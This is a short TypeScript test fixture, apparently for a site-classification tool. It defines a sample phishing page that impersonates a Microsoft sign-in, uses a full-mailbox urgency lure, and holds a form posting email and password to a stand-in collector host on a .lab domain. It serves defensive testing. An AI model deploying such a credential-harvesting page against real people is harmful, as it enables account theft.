import { site } from '../../../src/testing/demo/pages.ts'
import { type GoldenSite, MARKUP } from '../site.ts'

const page = `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Sign in to your Microsoft account</title></head>
<body data-kept="${MARKUP}"><h1>Sign in</h1><p>Your mailbox is full. Confirm your password within 24 hours to keep your messages.</p>
<form action="https://collector-forms.lab/drop.php" method="post"><input type="email" name="login">
<input type="password" name="pass"><button>Sign in</button></form>
<p><a href="https://www.microsoft.com/privacy">Privacy</a></p></body></html>`

/** A page that asks for another company's passwords and sends them away. */
export const phishing: GoldenSite = {
  kind: 'phishing',
  asked: { domain: 'microsoft-mailbox-verify.lab' },
  age_days: 5,
  hosts: [
    {
      name: 'microsoft-mailbox-verify.lab',
      addresses: ['45.130.40.119'],
      https: site({ '/': { headers: [['Server', 'nginx/1.18.0 (Ubuntu)']], body: page } }),
    },
  ],
}
